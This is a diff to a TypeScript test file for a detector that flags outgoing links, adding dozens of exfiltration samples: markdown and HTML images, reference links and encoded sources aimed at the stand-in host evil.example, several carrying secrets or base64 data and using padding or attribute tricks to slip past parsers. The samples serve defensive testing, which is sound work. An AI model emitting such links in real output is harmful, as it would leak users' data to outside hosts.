@@ -8,6 +8,7 @@ const rules = (text: string): string[] => detector.scan(text).findings.map(({ ru
 const base64 = Buffer.from('the password is swordfish and more').toString('base64');
 const hex = Buffer.from('the password is swordfish').toString('hex');
 const long = 'word+'.repeat(30);
+const far = 'Words of an ordinary paragraph.\n\n'.repeat(100);
 
 /** What a renderer would fetch without a click, or a link that carries something. */
 const attacks: Readonly<Record<string, string>> = {
@@ -91,6 +92,27 @@ const attacks: Readonly<Record<string, string>> = {
   'an address in brackets': `(https://evil.example/?q=${long})`,
   'an address without scheme': `www.evil.example/?q=${long}`,
   FTP: `ftp://evil.example/${base64}`,
+  'parameters of a newsletter with data': `[x](https://evil.example/?utm_a=${base64.slice(0, 44)}&utm_b=${base64.slice(0, 44)})`,
+  'data that looks like words of a page': `[x](https://evil.example/?q=:~:${base64})`,
+  'an image by a number': `![a][1]\n\n[1]: https://evil.example/${'plain-words/'.repeat(12)}`,
+  'an image by a number alone': '![2024]\n\n[2024]: https://evil.example/hunter2',
+  'an image by a number, far before': `![a][1]\n\n${far}[1]: https://evil.example/hunter2`,
+  'an image by a number, defined before': `[1]: https://evil.example/hunter2\n\n${far}x![a][1]`,
+  'an image by a number, behind what is no link': '[1]: https://evil.example/hunter2\n\n![1](a b)',
+  'much space before an address': `![a](${' '.repeat(40)}https://evil.example/hunter2)`,
+  'more space than is read': `![a](${' '.repeat(4000)}https://evil.example/hunter2)`,
+  'much space before the address of a definition': `![k]\n\n[k]:${'\t'.repeat(700)}https://evil.example/hunter2`,
+  'more space before the sign than is read': `<img src${' '.repeat(700)}= //evil.example/p>`,
+  'a long text of an image': `![${'a '.repeat(2000)}](https://evil.example/hunter2)`,
+  'a long text before the source': `<img alt="${'a '.repeat(2000)}" src="https://evil.example/hunter2">`,
+  'a long text before the source, without scheme': `<img alt="${'a '.repeat(2000)}" src="/\\evil.example/hunter2">`,
+  'a quote that does not count': '<img a=b=" c="> " src="https://evil.example/h">',
+  'a link tag in an attribute': '<link rel=stylesheet title="<a " href="https://evil.example/h">',
+  'a link tag in an attribute of SVG': '<svg><image title="<a " href="https://evil.example/hunter2"/></svg>',
+  'a link tag in an attribute of a base': '<base title=\'<area x\' href="https://evil.example/">',
+  'an attribution': '<a attributionsrc="https://evil.example/h" href=x>y</a>',
+  'many zeros': '<img src="&#00000000104;ttps://evil.example/hunter2">',
+  'many zeros in hex': '<img src="/&#x00000009;/evil.example/h">',
 };
 
 /** Ordinary text of the same kinds. */
@@ -128,6 +150,15 @@ const benign: Readonly<Record<string, string>> = {
   'words of a page':
     'https://docs.example.com/notes.html#:~:text=import%20type%20only%20imports%20declarations,also%20erased%20from%20it%20and%20so%20on',
   'a path': 'see src/detectors/outgoing-links.ts/ and README.md#what-it-does-not-protect-against',
+  'sources by name':
+    'See [Source] and [1].\n\n[Source]: https://www.other.example/world/europe/x\n[1]: https://docs.example/api/fs.html#fsreadfile\n[2]: https://doi.example/10.1000/xyz?x=1',
+  'a note': '[TODO]: //fix this later',
+  'an image on an allowed host by a number': `![a][1]\n\n${far}[1]: https://good.example/p.png\n\n![b][1]`,
+  'a program with an assertion': 'const a = items![0] ?? groups![1]; // [0]: first',
+  'space before an address': `[a](${' '.repeat(40)}https://other.example/docs)`,
+  'a link behind closed tags': `<p title="b">c</p>\n<a class="d" title='e > f' href="https://other.example/docs">g</a>`,
+  'an address behind a closed tag': '<b>Set</b> url="https://other.example/docs" in the settings.',
+  'a link far behind an image': `![x](/p.png)\n\n${far}[\`docs\`](https://other.example/docs)`,
   'a list': 'items[0]: one, items[1]: two',
   'an array': 'vec![1, 2](x) and f[0](1, 2)',
 };
@@ -156,6 +187,16 @@ describe('outgoingLinks', () => {
       ...Object.values(benign),
       ...['![', '](', ')', ' ', '\n', '\\', '"', '=', '<img ', '<a ', 'src', 'https:', '//', 'www.', 'x'.repeat(300)],
       `![a](https://evil.example/${'y'.repeat(3000)})`,
+      ...[
+        far,
+        'a '.repeat(900),
+        ' '.repeat(700),
+        '<img alt="',
+        '<a title="',
+        '![1]',
+        '\n[1]: https://other.example/a\n',
+        '\n\n',
+      ],
       '\u{1f468}\u200d\u{1f469} e\u0301',
     );
     const sizes = fc.array(fc.integer({ min: 1, max: 60 }), { minLength: 1, maxLength: 9 });
@@ -171,7 +212,7 @@ describe('outgoingLinks', () => {
         }
         expect(out + stream.end()).toBe(redactor.redact(whole));
       }),
-      { numRuns: 600 },
+      { numRuns: 1500 },
     );
   });
 
